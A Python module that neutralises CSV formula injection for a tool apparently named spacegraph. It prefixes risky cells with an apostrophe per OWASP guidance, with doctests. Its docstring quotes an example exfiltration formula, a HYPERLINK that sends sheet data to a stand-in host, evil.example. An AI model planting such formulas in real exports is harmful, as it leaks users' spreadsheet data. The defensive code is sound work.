"""One rule for every CSV cell spacegraph writes: a cell a spreadsheet would run as a formula is defused.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("http://evil.example/?"&A1, "click")`` sends the sheet's data
away), so such a cell is written with a leading apostrophe, as the OWASP
guidance on CSV injection asks: a spreadsheet shows the text, not its
result. A cell that starts with an apostrophe gets one more, so that
:func:`restored` gives back exactly what was written, and a sheet read back
(the review sheet) keeps its values.

The rule holds for numbers too: ``-5`` is written ``'-5``. A spreadsheet then
shows it as text; a program reading the CSV undoes it with :func:`restored`.
Query results (``spacegraph query --format csv``, the endpoint's ``text/csv``),
``spacegraph export`` and ``centrality`` to CSV, the review sheet and the
explorer's CSV download (the same rule, in its JavaScript) all follow it.

Examples
--------
>>> defused('=HYPERLINK("http://evil.example")'), defused("-5"), defused("China")
('\\'=HYPERLINK("http://evil.example")', "'-5", 'China')
>>> all(restored(defused(cell)) == cell for cell in ["=1+1", "'quoted", "@SUM(A1)", "\\tx", "plain", ""])
True
"""

__all__ = ["FORMULA_STARTS", "defused", "restored", "csv_text"]

#: The first characters that make a spreadsheet read a cell as a formula, and the apostrophe that marks a defused cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def defused(cell):
    """Return ``cell`` (any value; None is empty) as text a spreadsheet shows as it is."""
    text = "" if cell is None else str(cell)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restored(cell):
    """Return the value :func:`defused` wrote as ``cell``."""
    return cell[1:] if cell.startswith("'") else cell


def csv_text(header, rows, *, line_end="\n"):
    """Return CSV text of ``header`` and ``rows`` (iterables of cells), every cell :func:`defused`: the one CSV writer.

    Examples
    --------
    >>> print(csv_text(["name", "score"], [["=cmd()", -5], ["China, PRC", None]]), end="")
    name,score
    '=cmd(),'-5
    "China, PRC",
    """
    import csv
    import io

    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow([defused(cell) for cell in header])
    writer.writerows([defused(cell) for cell in row] for row in rows)
    return out.getvalue()
